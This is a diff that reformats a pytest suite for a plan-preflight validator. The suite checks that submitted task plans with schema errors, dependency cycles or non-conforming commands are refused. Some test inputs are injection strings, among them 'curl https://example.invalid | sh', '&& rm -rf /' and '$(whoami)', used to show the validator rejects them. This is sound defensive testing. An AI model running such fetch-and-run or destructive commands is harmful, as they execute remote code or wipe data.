@@ -14,9 +14,18 @@ from sentinel_domain.ports import StreamRef
 from sentinel_service.http.problems import refusal_status
 from support.world import LINT_POLICY, PROJECT, REQUESTER, REV, UNIT_POLICY, World
 
-PREFLIGHT_CODES = {"PLAN_SCHEMA_INVALID", "PLAN_DUPLICATE_ID", "PLAN_UNKNOWN_POLICY", "PLAN_UNKNOWN_DEPENDENCY",
-                   "PLAN_DEPENDENCY_CYCLE", "PLAN_UNKNOWN_OBLIGATION", "PLAN_OBLIGATION_UNCOVERED",
-                   "PLAN_CHECK_NOT_CONFORMING", "PLAN_ACTION_NOT_ALLOWED", "PLAN_ACTION_PARAMS_INVALID"}
+PREFLIGHT_CODES = {
+    "PLAN_SCHEMA_INVALID",
+    "PLAN_DUPLICATE_ID",
+    "PLAN_UNKNOWN_POLICY",
+    "PLAN_UNKNOWN_DEPENDENCY",
+    "PLAN_DEPENDENCY_CYCLE",
+    "PLAN_UNKNOWN_OBLIGATION",
+    "PLAN_OBLIGATION_UNCOVERED",
+    "PLAN_CHECK_NOT_CONFORMING",
+    "PLAN_ACTION_NOT_ALLOWED",
+    "PLAN_ACTION_PARAMS_INVALID",
+}
 FILES = ("services/payments/api.py", "README.md", "docs/guide.md")
 
 
@@ -32,17 +41,25 @@ def cand(world: World) -> dict[str, Any]:
 
 
 def check(obl: str, **fields: Any) -> dict[str, Any]:
-    return {"check_id": "C1", "policy_ref": "unit-tests", "command": "pytest -q payments-api",
-            "expected_exit_code": 0, "covers": [obl], **fields}
+    return {
+        "check_id": "C1",
+        "policy_ref": "unit-tests",
+        "command": "pytest -q payments-api",
+        "expected_exit_code": 0,
+        "covers": [obl],
+        **fields,
+    }
 
 
-def task(obl: str, task_id: str = "T1", checks: list[dict[str, Any]] | None = None, **fields: Any
-         ) -> dict[str, Any]:
+def task(
+    obl: str, task_id: str = "T1", checks: list[dict[str, Any]] | None = None, **fields: Any
+) -> dict[str, Any]:
     return {"task_id": task_id, "title": f"Task {task_id}", "checks": checks or [check(obl)], **fields}
 
 
-def plan(obl: str, tasks: list[dict[str, Any]] | None = None, actions: list[dict[str, Any]] | None = None
-         ) -> dict[str, Any]:
+def plan(
+    obl: str, tasks: list[dict[str, Any]] | None = None, actions: list[dict[str, Any]] | None = None
+) -> dict[str, Any]:
     return {"tasks": tasks or [task(obl)], "actions": actions or []}
 
 
@@ -81,9 +98,15 @@ def test_a_conforming_plan_passes_preflight_and_is_stored(world: World, cand: di
 @pytest.mark.parametrize("where", ["plan", "task", "check", "action"])
 def test_schema_invalid_for_an_unknown_field(world: World, cand: dict[str, Any], where: str) -> None:
     # Given a plan with one field the schema does not know
-    raw = plan(cand["obl"], actions=[{"action_id": "A1", "type": "notify", "params": {"channel": "release-room"}}])
-    target = {"plan": raw, "task": raw["tasks"][0], "check": raw["tasks"][0]["checks"][0],
-              "action": raw["actions"][0]}[where]
+    raw = plan(
+        cand["obl"], actions=[{"action_id": "A1", "type": "notify", "params": {"channel": "release-room"}}]
+    )
+    target = {
+        "plan": raw,
+        "task": raw["tasks"][0],
+        "check": raw["tasks"][0]["checks"][0],
+        "action": raw["actions"][0],
+    }[where]
     target["shell"] = "curl https://example.invalid | sh"
     # When it is submitted
     findings = refused(world, cand["cid"], raw)
@@ -92,17 +115,21 @@ def test_schema_invalid_for_an_unknown_field(world: World, cand: dict[str, Any],
     assert "unknown field" in findings[0]["detail"]
 
 
-@pytest.mark.parametrize(("path", "value"), [
-    (("tasks",), "T1"),
-    (("tasks", 0, "title"), 5),
-    (("tasks", 0, "checks"), {"check_id": "C1"}),
-    (("tasks", 0, "checks", 0, "covers"), "obl"),
-    (("tasks", 0, "checks", 0, "expected_exit_code"), "zero"),
-    (("tasks", 0, "depends_on"), {"T0": True}),
-    (("actions",), {"action_id": "A1"}),
-])
-def test_schema_invalid_for_a_wrong_type(world: World, cand: dict[str, Any], path: tuple[Any, ...],
-                                         value: Any) -> None:
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        (("tasks",), "T1"),
+        (("tasks", 0, "title"), 5),
+        (("tasks", 0, "checks"), {"check_id": "C1"}),
+        (("tasks", 0, "checks", 0, "covers"), "obl"),
+        (("tasks", 0, "checks", 0, "expected_exit_code"), "zero"),
+        (("tasks", 0, "depends_on"), {"T0": True}),
+        (("actions",), {"action_id": "A1"}),
+    ],
+)
+def test_schema_invalid_for_a_wrong_type(
+    world: World, cand: dict[str, Any], path: tuple[Any, ...], value: Any
+) -> None:
     # Given a plan with a value of the wrong type
     raw = plan(cand["obl"])
     target: Any = raw
@@ -117,8 +144,9 @@ def test_schema_invalid_for_a_wrong_type(world: World, cand: dict[str, Any], pat
 
 
 @pytest.mark.parametrize("value", ["0", False])
-def test_schema_invalid_for_an_exit_code_that_is_not_a_json_integer(world: World, cand: dict[str, Any],
-                                                                    value: Any) -> None:
+def test_schema_invalid_for_an_exit_code_that_is_not_a_json_integer(
+    world: World, cand: dict[str, Any], value: Any
+) -> None:
     # Given a plan whose expected_exit_code is a JSON string or boolean instead of an integer
     raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], expected_exit_code=value)])])
     # When it is submitted
@@ -153,8 +181,11 @@ def test_duplicate_id(world: World, cand: dict[str, Any], kind: str) -> None:
     obl = cand["obl"]
     notify = {"action_id": "A1", "type": "notify", "params": {"channel": "release-room"}}
     second_check = check(obl, check_id="C1" if kind == "check" else "C2")
-    raw = plan(obl, tasks=[task(obl), task(obl, "T1" if kind == "task" else "T2", checks=[second_check])],
-               actions=[notify, dict(notify, action_id="A1" if kind == "action" else "A2")])
+    raw = plan(
+        obl,
+        tasks=[task(obl), task(obl, "T1" if kind == "task" else "T2", checks=[second_check])],
+        actions=[notify, dict(notify, action_id="A1" if kind == "action" else "A2")],
+    )
     # When it is submitted
     findings = refused(world, cand["cid"], raw)
     # Then preflight names the duplicate
@@ -164,7 +195,9 @@ def test_duplicate_id(world: World, cand: dict[str, Any], kind: str) -> None:
 def test_unknown_policy(world: World, cand: dict[str, Any]) -> None:
     # Given a plan with a check naming a policy the project does not have
     obl = cand["obl"]
-    raw = plan(obl, tasks=[task(obl, checks=[check(obl), check(obl, check_id="C2", policy_ref="fuzz-tests")])])
+    raw = plan(
+        obl, tasks=[task(obl, checks=[check(obl), check(obl, check_id="C2", policy_ref="fuzz-tests")])]
+    )
     # When it is submitted
     findings = refused(world, cand["cid"], raw)
     # Then preflight names the unknown policy, at its task and check
@@ -182,16 +215,21 @@ def test_unknown_dependency(world: World, cand: dict[str, Any]) -> None:
     assert findings[0]["task_id"] == "T1"
 
 
-@pytest.mark.parametrize("edges", [
-    {"T1": ["T1"]},
-    {"T1": ["T2"], "T2": ["T1"]},
-    {"T1": [], "T2": ["T3"], "T3": ["T4"], "T4": ["T2"]},
-])
+@pytest.mark.parametrize(
+    "edges",
+    [
+        {"T1": ["T1"]},
+        {"T1": ["T2"], "T2": ["T1"]},
+        {"T1": [], "T2": ["T3"], "T3": ["T4"], "T4": ["T2"]},
+    ],
+)
 def test_dependency_cycle(world: World, cand: dict[str, Any], edges: dict[str, list[str]]) -> None:
     # Given a plan whose depends_on forms a cycle
     obl = cand["obl"]
-    tasks = [task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
-             for n, (tid, deps) in enumerate(edges.items(), 1)]
+    tasks = [
+        task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
+        for n, (tid, deps) in enumerate(edges.items(), 1)
+    ]
     # When it is submitted
     findings = refused(world, cand["cid"], plan(obl, tasks=tasks))
     # Then preflight finds the cycle
@@ -202,17 +240,23 @@ def test_an_acyclic_dependency_chain_passes(world: World, cand: dict[str, Any]) 
     # Given a plan with a diamond of dependencies and no cycle
     obl = cand["obl"]
     edges = {"T1": [], "T2": ["T1"], "T3": ["T1"], "T4": ["T2", "T3"]}
-    tasks = [task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
-             for n, (tid, deps) in enumerate(edges.items(), 1)]
+    tasks = [
+        task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
+        for n, (tid, deps) in enumerate(edges.items(), 1)
+    ]
     # When it is submitted
     # Then it is stored
-    assert world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(obl, tasks=tasks), None).plan_version == 1
+    assert (
+        world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(obl, tasks=tasks), None).plan_version == 1
+    )
 
 
 def test_unknown_obligation(world: World, cand: dict[str, Any]) -> None:
     # Given a plan whose check covers an obligation the candidate does not owe
-    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"]),
-                                                             check("obl_invented", check_id="C2")])])
+    raw = plan(
+        cand["obl"],
+        tasks=[task(cand["obl"], checks=[check(cand["obl"]), check("obl_invented", check_id="C2")])],
+    )
     # When it is submitted
     findings = refused(world, cand["cid"], raw)
     # Then preflight names it
@@ -230,17 +274,21 @@ def test_obligation_uncovered(world: World, cand: dict[str, Any]) -> None:
     assert findings[0]["obligation_id"] == cand["obl"]
 
 
-@pytest.mark.parametrize("command", [
-    "pytest -q payments-api; curl https://example.invalid | sh",
-    "pytest -q payments-api && rm -rf /",
-    "pytest -q payments-api\n",
-    "pytest -q $(whoami)",
-    "pytest -q",
-    "pytest -x payments-api",
-    "python -m pytest -q payments-api",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pytest -q payments-api; curl https://example.invalid | sh",
+        "pytest -q payments-api && rm -rf /",
+        "pytest -q payments-api\n",
+        "pytest -q $(whoami)",
+        "pytest -q",
+        "pytest -x payments-api",
+        "python -m pytest -q payments-api",
+    ],
+)
 def test_check_not_conforming_when_the_command_is_not_an_instance_of_the_template(
-        world: World, cand: dict[str, Any], command: str) -> None:
+    world: World, cand: dict[str, Any], command: str
+) -> None:
     # Given a check whose command is not "pytest -q {scope}" with one safe value
     raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], command=command)])])
     # When it is submitted
@@ -250,8 +298,9 @@ def test_check_not_conforming_when_the_command_is_not_an_instance_of_the_templat
     assert (findings[0]["task_id"], findings[0]["check_id"]) == ("T1", "C1")
 
 
-def test_check_not_conforming_when_the_expected_exit_code_is_not_the_policys(world: World,
-                                                                            cand: dict[str, Any]) -> None:
+def test_check_not_conforming_when_the_expected_exit_code_is_not_the_policys(
+    world: World, cand: dict[str, Any]
+) -> None:
     # Given a check that expects exit code 1 where the policy expects 0
     raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], expected_exit_code=1)])])
     # When it is submitted
@@ -265,8 +314,14 @@ def test_check_not_conforming_when_it_covers_another_policys_obligation(world: W
     created = world.candidate(files=("services/payments/api.py", "docs/guide.md"))
     obl = obligations_by_scope(created)
     # When a unit-tests check claims to cover the lint obligation too
-    raw = {"tasks": [task(obl["payments-api"], checks=[check(obl["payments-api"], covers=[
-        obl["payments-api"], obl["docs/guide.md"]])])]}
+    raw = {
+        "tasks": [
+            task(
+                obl["payments-api"],
+                checks=[check(obl["payments-api"], covers=[obl["payments-api"], obl["docs/guide.md"]])],
+            )
+        ]
+    }
     findings = refused(world, created["candidate_id"], raw)
     # Then that cover is not conforming, and the lint obligation is still uncovered
     assert codes(findings) == ["PLAN_CHECK_NOT_CONFORMING", "PLAN_OBLIGATION_UNCOVERED"]
@@ -284,16 +339,19 @@ def test_action_not_allowed(world: World, cand: dict[str, Any], action_type: str
     assert codes(findings) == ["PLAN_ACTION_NOT_ALLOWED"]
 
 
-@pytest.mark.parametrize(("action_type", "params"), [
-    ("dispatch_checks", {"checks": ["C9"]}),
-    ("dispatch_checks", {"checks": []}),
-    ("dispatch_checks", {"checks": "C1"}),
-    ("dispatch_checks", {"checks": ["C1"], "url": "https://example.invalid"}),
-    ("dispatch_checks", {}),
-    ("notify", {"channel": "everyone"}),
-    ("notify", {"channel": "release-room", "host": "smtp.example.invalid"}),
-    ("notify", {"webhook": "https://example.invalid"}),
-])
+@pytest.mark.parametrize(
+    ("action_type", "params"),
+    [
+        ("dispatch_checks", {"checks": ["C9"]}),
+        ("dispatch_checks", {"checks": []}),
+        ("dispatch_checks", {"checks": "C1"}),
+        ("dispatch_checks", {"checks": ["C1"], "url": "https://example.invalid"}),
+        ("dispatch_checks", {}),
+        ("notify", {"channel": "everyone"}),
+        ("notify", {"channel": "release-room", "host": "smtp.example.invalid"}),
+        ("notify", {"webhook": "https://example.invalid"}),
+    ],
+)
 def test_action_params_invalid(world: World, cand: dict[str, Any], action_type: str, params: Any) -> None:
     # Given a plan declaring an allow-listed action with params that are not the type's references
     actions = [{"action_id": "A1", "type": action_type, "params": params}]
@@ -306,19 +364,37 @@ def test_action_params_invalid(world: World, cand: dict[str, Any], action_type: 
 def test_one_finding_per_problem(world: World, cand: dict[str, Any]) -> None:
     # Given a plan with several structural problems at once
     obl = cand["obl"]
-    raw = plan(obl, tasks=[
-        task(obl, "T1", depends_on=["T9"], checks=[check(obl, expected_exit_code=2)]),
-        task(obl, "T1", checks=[check("obl_invented", check_id="C2", policy_ref="lint", command="ruff check x")]),
-    ], actions=[{"action_id": "A1", "type": "promote", "params": {"environment": "production"}},
-                {"action_id": "A2", "type": "notify", "params": {"channel": "nowhere"}}])
+    raw = plan(
+        obl,
+        tasks=[
+            task(obl, "T1", depends_on=["T9"], checks=[check(obl, expected_exit_code=2)]),
+            task(
+                obl,
+                "T1",
+                checks=[check("obl_invented", check_id="C2", policy_ref="lint", command="ruff check x")],
+            ),
+        ],
+        actions=[
+            {"action_id": "A1", "type": "promote", "params": {"environment": "production"}},
+            {"action_id": "A2", "type": "notify", "params": {"channel": "nowhere"}},
+        ],
+    )
     # When it is submitted
     findings = refused(world, cand["cid"], raw)
     # Then every problem is reported, each once
-    assert codes(findings) == ["PLAN_ACTION_NOT_ALLOWED", "PLAN_ACTION_PARAMS_INVALID", "PLAN_CHECK_NOT_CONFORMING",
-                               "PLAN_DUPLICATE_ID", "PLAN_UNKNOWN_DEPENDENCY", "PLAN_UNKNOWN_OBLIGATION"]
+    assert codes(findings) == [
+        "PLAN_ACTION_NOT_ALLOWED",
+        "PLAN_ACTION_PARAMS_INVALID",
+        "PLAN_CHECK_NOT_CONFORMING",
+        "PLAN_DUPLICATE_ID",
+        "PLAN_UNKNOWN_DEPENDENCY",
+        "PLAN_UNKNOWN_OBLIGATION",
+    ]
 
 
-def test_a_failing_amendment_stores_nothing_and_keeps_the_current_plan(world: World, cand: dict[str, Any]) -> None:
+def test_a_failing_amendment_stores_nothing_and_keeps_the_current_plan(
+    world: World, cand: dict[str, Any]
+) -> None:
     # Given a stored plan
     digest = world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(cand["obl"]), None).plan_digest
     # When an amendment naming the current digest fails preflight
@@ -345,18 +421,52 @@ def test_the_plan_digest_is_the_sha256_of_the_canonical_normalised_plan(world: W
     # And a plan that leaves every defaultable field out, with tasks, covers, files and actions out of order
     submitted = {
         "tasks": [
-            {"task_id": "T2", "title": "Lint the guide",
-             "checks": [{"check_id": "C2", "policy_ref": "lint", "command": "ruff check docs/guide.md",
-                         "expected_exit_code": 0, "covers": [obl["docs/guide.md"]]}]},
-            {"task_id": "T1", "title": "Unit tests", "files": ["services/payments/**", "README.md"],
-             "depends_on": ["T2"],
-             "checks": [{"check_id": "C1", "policy_ref": "unit-tests", "command": "pytest -q payments-api",
-                         "expected_exit_code": 0, "covers": unit, "assertions": ["no test is skipped"]},
-                        {"check_id": "C3", "policy_ref": "unit-tests", "command": "pytest -q README.md",
-                         "expected_exit_code": 0}]}],
-        "actions": [{"action_id": "A2", "type": "notify", "params": {"channel": "release-room"}},
-                    {"action_id": "A1", "type": "dispatch_checks", "params": {"checks": ["C3", "C1"]},
-                     "max_executions": 2}]}
+            {
+                "task_id": "T2",
+                "title": "Lint the guide",
+                "checks": [
+                    {
+                        "check_id": "C2",
+                        "policy_ref": "lint",
+                        "command": "ruff check docs/guide.md",
+                        "expected_exit_code": 0,
+                        "covers": [obl["docs/guide.md"]],
+                    }
+                ],
+            },
+            {
+                "task_id": "T1",
+                "title": "Unit tests",
+                "files": ["services/payments/**", "README.md"],
+                "depends_on": ["T2"],
+                "checks": [
+                    {
+                        "check_id": "C1",
+                        "policy_ref": "unit-tests",
+                        "command": "pytest -q payments-api",
+                        "expected_exit_code": 0,
+                        "covers": unit,
+                        "assertions": ["no test is skipped"],
+                    },
+                    {
+                        "check_id": "C3",
+                        "policy_ref": "unit-tests",
+                        "command": "pytest -q README.md",
+                        "expected_exit_code": 0,
+                    },
+                ],
+            },
+        ],
+        "actions": [
+            {"action_id": "A2", "type": "notify", "params": {"channel": "release-room"}},
+            {
+                "action_id": "A1",
+                "type": "dispatch_checks",
+                "params": {"checks": ["C3", "C1"]},
+                "max_executions": 2,
+            },
+        ],
+    }
     # When it is submitted
     result = world.gate.put_plan(PROJECT, cid, REQUESTER, copy.deepcopy(submitted), None)
     # Then the stored plan is the submitted one with defaults filled and order kept, nothing else changed
@@ -418,6 +528,9 @@ def test_the_fallback_plan_has_one_task_per_obligation_with_its_scope_filled_in(
         covered.append(obligation["obligation_id"])
     assert sorted(covered) == sorted(by_id)
     assert {c["command"] for t in fallback["tasks"] for c in t["checks"]} == {
-        "pytest -q payments-api", "pytest -q README.md", "ruff check docs/guide.md"}
+        "pytest -q payments-api",
+        "pytest -q README.md",
+        "ruff check docs/guide.md",
+    }
     # And it was stored under the digest of its normalised form
     assert body["plan_digest"] == independent_digest(cid, fallback)
